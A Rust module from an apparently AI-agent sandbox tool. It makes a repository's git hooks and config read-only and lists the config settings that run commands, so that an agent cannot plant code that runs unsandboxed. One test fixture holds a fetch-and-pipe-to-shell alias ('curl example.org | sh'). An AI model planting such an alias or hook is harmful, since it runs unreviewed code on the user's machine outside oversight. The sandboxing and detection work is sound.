//! What of a repository's git directory must stay read-only inside the sandbox.
//!
//! git runs hooks and commands named in its config (`core.hooksPath`, `core.fsmonitor`,
//! `core.sshCommand`, aliases, filter drivers) when the user next types `git` outside the
//! sandbox. An agent that could write them could plant code that runs unsandboxed; objects,
//! refs, the index and logs stay writable so that `git add` and `git commit` work.

use std::fs;
use std::path::Path;

use crate::context::GitDirs;
use crate::policy::{Access, PathRule, Placeholder, RuleOrigin};

const REASON: &str = "git hooks and config run commands outside the sandbox: read-only";

fn protect(path: &Path, placeholder: Option<Placeholder>) -> PathRule {
    let mut rule = PathRule::new(path, Access::ReadOnly, true, RuleOrigin::builtin(REASON));
    rule.placeholder = placeholder;
    rule
}

/// Rules that make a repository's executable git state read-only.
///
/// Missing hook directories are created empty first: a read-only bind needs something to
/// bind, and an absent `hooks/` would let the agent create one.
pub fn git_protection_rules(workspace: &Path, git: &GitDirs) -> Vec<PathRule> {
    let mut rules = Vec::new();
    let protect_git_dir = |dir: &Path, rules: &mut Vec<PathRule>| {
        rules.push(protect(&dir.join("hooks"), Some(Placeholder::Dir)));
        rules.push(protect(&dir.join("info"), Some(Placeholder::Dir)));
        rules.push(protect(&dir.join("config"), None));
        rules.push(protect(&dir.join("config.worktree"), None));
        // Pointers between a linked worktree and its repository.
        rules.push(protect(&dir.join("commondir"), None));
        rules.push(protect(&dir.join("gitdir"), None));
    };
    protect_git_dir(&git.common_dir, &mut rules);
    if git.git_dir != git.common_dir {
        protect_git_dir(&git.git_dir, &mut rules);
    }
    // Submodules keep their git directories under `modules/`; their hooks and config run
    // when the user works in the submodule.
    for modules in [&git.common_dir, &git.git_dir] {
        if let Ok(entries) = fs::read_dir(modules.join("modules")) {
            for entry in entries.flatten() {
                if entry.file_type().is_ok_and(|t| t.is_dir()) {
                    protect_git_dir(&entry.path(), &mut rules);
                }
            }
        }
    }
    // A `.git` file (linked worktree, submodule) says where the git directory is.
    let dot_git = workspace.join(".git");
    if fs::symlink_metadata(&dot_git).is_ok_and(|m| m.is_file()) {
        rules.push(protect(&dot_git, None));
    }
    rules
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hooks_and_config_are_read_only_and_objects_are_not_covered() {
        let git = GitDirs {
            git_dir: "/w/.git".into(),
            common_dir: "/w/.git".into(),
        };
        let rules = git_protection_rules(Path::new("/nonexistent-w"), &git);
        let paths: Vec<_> = rules.iter().map(|r| r.path.clone()).collect();
        assert!(paths.contains(&"/w/.git/hooks".into()));
        assert!(paths.contains(&"/w/.git/config".into()));
        assert!(!paths
            .iter()
            .any(|p| p.ends_with("objects") || p.ends_with("refs")));
        assert!(rules.iter().all(|r| r.access == Access::ReadOnly));
        let hooks = rules.iter().find(|r| r.path.ends_with("hooks"));
        assert_eq!(hooks.and_then(|r| r.placeholder), Some(Placeholder::Dir));
    }

    #[test]
    fn linked_worktree_protects_both_git_dirs() {
        let git = GitDirs {
            git_dir: "/m/.git/worktrees/wt".into(),
            common_dir: "/m/.git".into(),
        };
        let rules = git_protection_rules(Path::new("/nonexistent-wt"), &git);
        let paths: Vec<_> = rules.iter().map(|r| r.path.clone()).collect();
        assert!(paths.contains(&"/m/.git/hooks".into()));
        assert!(paths.contains(&"/m/.git/worktrees/wt/config.worktree".into()));
        assert!(paths.contains(&"/m/.git/worktrees/wt/gitdir".into()));
    }
}

/// A setting or hook of the repository that runs a command when the user's own git runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GitRunsCommand {
    /// The file it is in.
    pub file: std::path::PathBuf,
    /// `core.fsmonitor`, `alias.x`, `filter.lfs.process`, `hook pre-commit`, ...
    pub what: String,
    /// The configured value (empty for hooks).
    pub value: String,
}

/// Keys (section, key) whose value git runs as a command; `*` matches any subsection.
const COMMAND_KEYS: &[(&str, &str)] = &[
    ("core", "hookspath"),
    ("core", "fsmonitor"),
    ("core", "sshcommand"),
    ("core", "editor"),
    ("core", "pager"),
    ("core", "askpass"),
    ("sequence", "editor"),
    ("diff.*", "textconv"),
    ("diff.*", "command"),
    ("filter.*", "clean"),
    ("filter.*", "smudge"),
    ("filter.*", "process"),
    ("merge.*", "driver"),
    ("credential", "helper"),
    ("credential.*", "helper"),
    ("gpg", "program"),
    ("include", "path"),
    ("includeif.*", "path"),
];

/// What the repository's config and hooks will run when the user next types `git`
/// outside the sandbox: kennel tells the user at launch.
pub fn git_runs_commands(git: &GitDirs) -> Vec<GitRunsCommand> {
    let mut found = Vec::new();
    let mut configs = vec![git.common_dir.join("config")];
    if git.git_dir != git.common_dir {
        configs.push(git.git_dir.join("config.worktree"));
    }
    for file in configs {
        if let Ok(text) = fs::read_to_string(&file) {
            for (what, value) in command_settings(&text) {
                found.push(GitRunsCommand {
                    file: file.clone(),
                    what,
                    value,
                });
            }
        }
    }
    let hooks = git.common_dir.join("hooks");
    if let Ok(entries) = fs::read_dir(&hooks) {
        let mut names: Vec<String> = entries
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .filter(|n| !n.ends_with(".sample"))
            .collect();
        names.sort();
        for name in names {
            found.push(GitRunsCommand {
                file: hooks.join(&name),
                what: format!("hook {name}"),
                value: String::new(),
            });
        }
    }
    found
}

/// Settings of a git config text that run commands: `(section.key, value)`.
/// A small reader of git's format: `[section]`, `[section "sub"]`, `key = value`.
pub(crate) fn command_settings(text: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let mut section = String::new();
    let mut subsection: Option<String> = None;
    for line in text.lines() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') || line.starts_with(';') {
            continue;
        }
        if let Some(header) = line.strip_prefix('[').and_then(|l| l.split(']').next()) {
            let mut parts = header.splitn(2, |c: char| c.is_whitespace());
            section = parts.next().unwrap_or_default().to_ascii_lowercase();
            subsection = parts.next().map(|s| s.trim().trim_matches('"').to_string());
            // The old form `[section.sub]`.
            if subsection.is_none() {
                if let Some((s, sub)) = section.clone().split_once('.') {
                    section = s.to_string();
                    subsection = Some(sub.to_string());
                }
            }
            continue;
        }
        let (key, value) = match line.split_once('=') {
            Some((k, v)) => (k.trim().to_ascii_lowercase(), v.trim().to_string()),
            None => (line.to_ascii_lowercase(), "true".to_string()),
        };
        let name = match &subsection {
            Some(sub) => format!("{section}.{sub}.{key}"),
            None => format!("{section}.{key}"),
        };
        let runs = COMMAND_KEYS.iter().any(|(sec, k)| {
            *k == key
                && match sec.strip_suffix(".*") {
                    Some(s) => s == section && subsection.is_some(),
                    None => *sec == section && subsection.is_none(),
                }
        }) || (section == "alias" && value.trim_start_matches('"').starts_with('!'));
        if runs {
            out.push((name, value));
        }
    }
    out
}

#[cfg(test)]
mod config_tests {
    use super::*;

    #[test]
    fn finds_settings_that_run_commands() {
        let text = r#"
[core]
	repositoryformatversion = 0
	fsmonitor = ./watch.sh
	hooksPath = /tmp/hooks
[alias]
	st = status
	boom = "!curl example.org | sh"
[filter "lfs"]
	process = git-lfs filter-process
[remote "origin"]
	url = x
[include]
	path = ../other.config
"#;
        let found: Vec<String> = command_settings(text).into_iter().map(|(k, _)| k).collect();
        assert_eq!(
            found,
            vec![
                "core.fsmonitor",
                "core.hookspath",
                "alias.boom",
                "filter.lfs.process",
                "include.path"
            ]
        );
    }

    #[test]
    fn plain_config_runs_nothing() {
        let text = "[core]\n\tbare = false\n[user]\n\tname = x\n[alias]\n\tco = checkout\n";
        assert!(command_settings(text).is_empty());
    }
}
